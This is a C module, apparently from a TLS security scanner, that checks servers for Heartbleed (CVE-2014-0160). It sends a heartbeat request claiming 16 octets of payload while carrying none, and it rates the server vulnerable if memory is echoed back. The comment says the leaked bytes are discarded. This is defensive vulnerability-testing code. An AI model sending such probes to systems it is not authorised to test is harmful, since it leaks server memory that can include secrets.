/* SPDX-License-Identifier: GPL-3.0-or-later */
/*
 * Heartbleed (CVE-2014-0160): a heartbeat request (RFC 6520 4) that says it has a payload and has
 * none. A server that looks at the length drops it; a vulnerable one echoes what lies behind it in
 * its memory. 16 octets are asked for, and none of what comes is kept.
 */
#include <config.h>

#include "tls/attack_private.h"

#define EXTENSION_HEARTBEAT 15
#define ASKED 16
#define PADDING 16 /* RFC 6520 4: at least */

enum { HEARTBEAT_REQUEST = 1, HEARTBEAT_RESPONSE };

static void consider(struct attack *attack)
{
    if (attack->peer->heartbeat == TRI_NO)
        attack_settle(attack, INTRUSIVE_NOT_APPLICABLE, "heartbeats are not spoken");
}

static void begin(struct attack *attack, struct buf *out)
{
    struct hello hello;

    attack_hello(attack, &hello);
    hello.heartbeat = true;
    attack_send_hello(&hello, out);
}

static void probe(struct attack *attack, struct buf *out)
{
    static const uint8_t request[] = {HEARTBEAT_REQUEST, 0, ASKED};

    attack_send_record(attack, ATTACK_RECORD_HEARTBEAT, request, sizeof request, out);
    attack->probes++;
    attack->patience = ATTACK_PATIENCE;
}

static void judge_heartbeat(struct attack *attack)
{
    const struct attack_records *records = &attack->records;

    if (records->size >= 3 + ASKED && records->body[0] == HEARTBEAT_RESPONSE &&
        records->body[1] == 0 && records->body[2] == ASKED)
        attack_settle(attack, INTRUSIVE_VULNERABLE,
                      "a heartbeat without payload was answered with 16 octets of memory");
    else
        attack_doubt(attack, "a heartbeat without payload was answered with an odd one");
}

/* Whatever is not a heartbeat means that the request was not answered. */
static bool feed_answer(struct attack *attack, const uint8_t *data, size_t size)
{
    while (attack_read_record(attack, &data, &size)) {
        if (attack_record_type(attack) == ATTACK_RECORD_HEARTBEAT)
            judge_heartbeat(attack);
        else if (attack_record_type(attack) == ATTACK_RECORD_ALERT)
            attack_settle(attack, INTRUSIVE_SAFE, "an alert");
        else
            attack_doubt(attack, "neither a heartbeat nor an alert came");
        return true;
    }
    return attack_settle_foreign(attack);
}

static bool feed(struct attack *attack, const uint8_t *data, size_t size, struct buf *out)
{
    bool over;

    if (attack->probes > 0)
        return feed_answer(attack, data, size);
    if (!attack_take_flight(attack, data, size, &over))
        return over;
    if (!flight_has(&attack->flight, EXTENSION_HEARTBEAT)) {
        attack_settle(attack, INTRUSIVE_NOT_APPLICABLE, "heartbeats are not spoken");
        return true;
    }
    probe(attack, out);
    return false;
}

static bool quiet(struct attack *attack, struct buf *out)
{
    (void)out;
    attack_settle(attack, INTRUSIVE_SAFE, "no answer");
    return true;
}

static void ended(struct attack *attack, enum attack_end end)
{
    if (end == ATTACK_ENOUGH)
        return; /* a doubt */
    if (attack->probes > 0 && end == ATTACK_CLOSED)
        attack_settle(attack, INTRUSIVE_SAFE, "the connection is closed");
    else
        attack_doubt(attack, "the hello was not answered");
}

const struct attack_test attack_heartbleed = {
    .consider = consider,
    .begin = begin,
    .feed = feed,
    .quiet = quiet,
    .ended = ended,
    .old_tls = true,
};
